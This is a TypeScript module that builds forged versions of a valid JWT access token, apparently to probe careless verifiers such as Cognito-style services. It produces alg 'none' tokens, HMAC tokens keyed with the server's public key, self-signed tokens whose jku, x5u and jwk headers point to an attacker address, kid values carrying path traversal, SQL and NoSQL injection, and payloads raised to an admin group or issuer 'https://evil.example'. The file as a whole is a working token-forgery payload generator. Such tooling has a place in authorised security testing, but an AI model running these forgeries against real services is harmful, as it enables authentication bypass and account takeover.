/** Forged variants of a genuine access token, by the ways that are known to work against careless verifiers. */
import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto';

/** A forged token, and what was done. */
export interface Forgery {
  readonly name: string;
  readonly token: string;
}

/** A public key as the server publishes it. */
export type PublishedKey = JsonWebKey & { readonly kid: string };

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (part: string): Record<string, unknown> =>
  JSON.parse(Buffer.from(part, 'base64url').toString()) as Record<string, unknown>;

/**
 * Returns the forgeries.
 *
 * @param genuine an access token that is accepted
 * @param published the keys of the pool
 * @param address of a key set of the attacker
 */
export function forgeriesOf(genuine: string, published: readonly PublishedKey[], address: string): readonly Forgery[] {
  const [header = '', payload = '', signature = ''] = genuine.split('.');
  return [
    ...unsigned(header, payload, signature),
    ...withPublicKeyAsSecret(header, payload, published),
    ...withOwnKey(header, payload, address),
    ...changedPayloads(header, payload, signature),
    ...changedForms(header, payload, signature),
  ];
}

function unsigned(header: string, payload: string, signature: string): Forgery[] {
  const names = ['none', 'None', 'NONE', 'nOnE', '', null, undefined, 'null', 'RS0'];
  return names.flatMap((alg) => {
    const forged = encode({ ...decode(header), alg });
    return [`${forged}.${payload}.`, `${forged}.${payload}`, `${forged}.${payload}.${signature}`].map((token, form) => {
      return { name: `alg ${alg}, form ${form}`, token };
    });
  });
}

function withPublicKeyAsSecret(header: string, payload: string, published: readonly PublishedKey[]): Forgery[] {
  return published.flatMap((jwk) => {
    const key = createPublicKey({ key: jwk, format: 'jwk' });
    const { kid, ...plain } = jwk;
    const secrets: readonly (string | Buffer)[] = [
      key.export({ type: 'spki', format: 'pem' }),
      key.export({ type: 'spki', format: 'pem' }).toString().trim(),
      key.export({ type: 'pkcs1', format: 'pem' }),
      key.export({ type: 'spki', format: 'der' }),
      Buffer.from(jwk.n ?? '', 'base64url'),
      jwk.n ?? '',
      JSON.stringify(jwk),
      JSON.stringify(plain),
      kid,
    ];
    return [256, 384, 512].flatMap((bits) =>
      secrets.map((secret, index) => {
        const content = `${encode({ ...decode(header), alg: `HS${bits}`, kid })}.${payload}`;
        const mac = createHmac(`sha${bits}`, secret).update(content).digest('base64url');
        return { name: `HS${bits} with secret ${index} of ${kid}`, token: `${content}.${mac}` };
      }),
    );
  });
}

function withOwnKey(header: string, payload: string, address: string): Forgery[] {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'own', use: 'sig', alg: 'RS256' };
  const own = decode(header);
  const headers: readonly Record<string, unknown>[] = [
    own,
    { ...own, kid: undefined },
    { ...own, kid: '' },
    { ...own, kid: 'own' },
    { ...own, kid: '../../../../../../dev/null' },
    { ...own, kid: "x' or '1'='1" },
    { ...own, kid: address },
    { ...own, kid: [own['kid']] },
    { ...own, kid: { $ne: null } },
    { ...own, kid: 'x'.repeat(4_000) },
    { ...own, jwk },
    { ...own, kid: 'own', jwk },
    { ...own, jku: address },
    { ...own, kid: 'own', jku: address },
    { ...own, x5u: address },
    { ...own, x5c: ['MIIB'] },
    { ...own, crit: ['jku'], jku: address },
  ];
  return headers.flatMap((head, index) =>
    [256, 384, 512].map((bits) => {
      const content = `${encode({ ...head, alg: `RS${bits}` })}.${payload}`;
      const made = sign(`sha${bits}`, Buffer.from(content), privateKey).toString('base64url');
      return { name: `RS${bits} with an own key, header ${index}`, token: `${content}.${made}` };
    }),
  );
}

function changedPayloads(header: string, payload: string, signature: string): Forgery[] {
  const claims = decode(payload);
  const changes = [
    { sub: '00000000-0000-4000-8000-000000000000' },
    { username: 'somebody' },
    { client_id: 'another' },
    { iss: 'https://evil.example' },
    { token_use: 'id' },
    { exp: 9_999_999_999 },
    { scope: 'openid aws.cognito.signin.user.admin phone' },
    { origin_jti: '00000000-0000-4000-8000-000000000000' },
    { 'cognito:groups': ['admin'] },
    {},
  ];
  // An added space changes the text of a payload, but not its claims.
  const texts = [...changes.map((change) => JSON.stringify({ ...claims, ...change })), `${JSON.stringify(claims)} `];
  return texts
    .map((text, index) => {
      return { name: `payload ${index}`, token: `${header}.${Buffer.from(text).toString('base64url')}.${signature}` };
    })
    .filter(({ token }) => token !== `${header}.${payload}.${signature}`);
}

function changedForms(header: string, payload: string, signature: string): Forgery[] {
  const genuine = `${header}.${payload}.${signature}`;
  const tokens = [
    `${header}.${payload}.${signature.slice(0, -4)}`,
    `${header}.${payload}.${signature}AAAA`,
    `${header}.${payload}.${'A'.repeat(signature.length)}`,
    `${header}.${payload}.`,
    `${header}..${signature}`,
    `.${payload}.${signature}`,
    `${genuine}.`,
    `${genuine}.${signature}`,
    `${header}.${payload}.${signature}.${signature}.${signature}`,
    `${payload}.${header}.${signature}`,
    `${header}.${payload}.${signature}==`,
    `${header}=.${payload}.${signature}`,
    `Bearer ${genuine}`,
    `"${genuine}"`,
    JSON.stringify({ payload, signatures: [{ protected: header, signature }] }),
  ];
  return tokens.map((token, index) => ({ name: `form ${index}`, token }));
}
